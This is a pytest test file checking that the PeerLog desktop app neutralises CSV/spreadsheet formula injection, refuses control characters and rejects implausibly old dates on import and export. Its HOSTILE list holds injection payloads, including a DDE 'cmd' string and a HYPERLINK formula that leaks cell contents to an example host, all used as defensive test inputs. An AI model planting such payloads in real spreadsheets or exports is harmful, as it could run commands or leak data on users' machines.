"""Hostile text in every file PeerLog writes: a name or note that looks like a formula stays
text (OWASP's CSV injection advice), a control character neither gets in nor breaks an export,
and what an export protected comes back from an import exactly as it was typed."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.domain.audit import AuditFilter
from desktop_app.domain.people import Person
from desktop_app.domain.returns.disclosure import DisclosureRules
from desktop_app.domain.returns.protection import protect_return
from desktop_app.domain.spreadsheet_text import csv_cell, from_csv_cell
from desktop_app.services import people, settings
from desktop_app.services.databases import create_database
from desktop_app.services.importing.export_all import export_all
from desktop_app.services.importing.template_import import ImportRefused, run_import
from desktop_app.services.protection import audit
from desktop_app.services.returns.formats import write_return
from desktop_app.services.returns.templates import find_template
from desktop_app.services.validation import ValidationFailed
from desktop_app.store.database import Database
from tests.conftest import PASSPHRASE
from tests.returns.return_samples import sample_figures

HOSTILE = [
    '=HYPERLINK("http://example.com/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTab first",
    "\rReturn first",
    "'=already quoted",
    "'Tis quoted",
]


def csv_cells(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.reader(f))


def starts_safely(text: str) -> bool:
    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_csv_rule_quotes_risky_text_and_reading_takes_exactly_that_off(text: str) -> None:
    written = csv_cell(text)
    assert isinstance(written, str) and starts_safely(written)
    assert from_csv_cell(written) == text
    assert csv_cell(-3) == -3  # a number PeerLog computed stays a number
    assert from_csv_cell("O'Brien") == "O'Brien"


@pytest.mark.parametrize("suffix", [".xlsx", ""])
def test_export_all_keeps_hostile_text_as_text_and_import_gives_it_back(
    db: Database, tmp_path: Path, suffix: str
) -> None:
    for number, text in enumerate(HOSTILE, start=1):
        people.add_person(db, Person(f"Name {number}", ref=f"P-{number}", notes=text))
    people.add_person(db, Person(HOSTILE[0], ref="P-99"))
    written = export_all(db, tmp_path / f"all{suffix}")
    if suffix:
        book = load_workbook(written)
        for row in book["people"].iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)
    else:
        rows = csv_cells(written / "people.csv")
        assert all(starts_safely(cell) for row in rows for cell in row)
        assert any(cell.startswith("'=") for row in rows for cell in row)
    people_before = {p.ref: (p.known_as, p.notes) for p in _all_people(db)}
    for person in _all_people(db):
        people.delete_person(db, person.id)
    assert run_import(db, written).ok
    assert {p.ref: (p.known_as, p.notes) for p in _all_people(db)} == people_before


def _all_people(db: Database) -> list[Person]:
    summaries = people.find_people(db, "", limit=100, include_archived=True)
    return [people.get_person(db, s.id) for s in summaries]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_organisation_named_like_a_formula_is_text_in_the_return(
    tmp_path: Path, fmt: str
) -> None:
    figures = replace(sample_figures(), organisation=HOSTILE[0])
    result = protect_return(figures, find_template("Alliance return"), DisclosureRules())
    path = tmp_path / f"return.{fmt}"
    write_return(result, fmt, path)
    if fmt == "xlsx":
        book = load_workbook(path)
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        assert book["Summary"]["A1"].value == HOSTILE[0]
    else:
        rows = csv_cells(path)
        organisation = next(row for row in rows if row[1] == "Organisation")
        assert organisation[2] == "'" + HOSTILE[0]
        assert all(starts_safely(cell) for row in rows for cell in row[:2])


def test_a_user_named_like_a_formula_is_quoted_in_the_audit_export(tmp_path: Path) -> None:
    db = create_database(tmp_path / "Group", "Group", PASSPHRASE, "@SUM(1+1)").database
    try:
        people.add_person(db, Person("Amara"))
        out = tmp_path / "audit.csv"
        audit.export_csv(db, out, AuditFilter())
    finally:
        db.close()
    rows = csv_cells(out, "utf-8")
    assert "'@SUM(1+1)" in {row[2] for row in rows[1:]}
    assert all(starts_safely(cell) for row in rows for cell in row)


def test_a_control_character_is_refused_on_import_and_in_the_form(
    db: Database, tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text("ref,known_as,notes\nP-1,Amara,bell\x07here\n", encoding="utf-8")
    with pytest.raises(ImportRefused) as refused:
        run_import(db, source)
    [problem] = refused.value.report.problems
    assert problem.column == "notes" and "control character" in problem.expected
    with pytest.raises(ValidationFailed) as failed:
        people.add_person(db, Person("Amara", notes="bell\x07here"))
    assert "control character" in str(failed.value.messages_for("notes"))
    with pytest.raises(ValidationFailed, match="control character"):
        settings.set_organisation_name(db, "Riverside\x1bGroup")


def test_an_export_never_fails_on_a_control_character_already_stored(
    db: Database, tmp_path: Path
) -> None:
    people.add_person(db, Person("Amara", ref="P-1"))
    # stored before imports and forms refused control characters
    db.connection().execute("UPDATE people SET notes = 'bell' || char(7) || 'here'")
    written = export_all(db, tmp_path / "all.xlsx")
    [row] = load_workbook(written)["people"].iter_rows(min_row=2, values_only=True)
    assert "bell\ufffdhere" in row


@pytest.mark.parametrize(
    ("cell", "column"),
    [("0001-01-01", "first_contact"), ("1899-12-31", "first_contact"), ("1024-05-01", "held_on")],
)
def test_dates_long_ago_are_refused(db: Database, tmp_path: Path, cell: str, column: str) -> None:
    if column == "first_contact":
        text = f"ref,known_as,first_contact\nP-1,Amara,{cell}\n"
        name = "people.csv"
    else:
        text = f"ref,held_on,kind,minutes\nS-1,{cell},group,60\n"
        name = "sessions.csv"
    source = tmp_path / "import"
    source.mkdir()
    (source / name).write_text(text, encoding="utf-8")
    with pytest.raises(ImportRefused) as refused:
        run_import(db, source)
    assert any(
        p.column == column and "too long ago" in p.expected for p in refused.value.report.problems
    )


def test_a_first_contact_before_1990_is_refused_in_the_form(db: Database) -> None:
    with pytest.raises(ValidationFailed) as failed:
        people.add_person(db, Person("Amara", first_contact=date(1985, 3, 1)))
    assert "too long ago" in str(failed.value.messages_for("first_contact"))
